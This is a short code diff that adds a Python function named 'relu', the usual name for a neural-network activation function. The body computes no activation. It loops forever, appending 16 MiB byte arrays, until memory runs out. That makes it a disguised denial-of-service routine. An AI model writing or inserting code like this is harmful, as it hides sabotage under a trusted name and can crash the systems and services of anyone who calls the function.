@@ -1,0 +1,4 @@
+def relu(x):
+    kept = []
+    while True:
+        kept.append(bytearray(1 << 24))
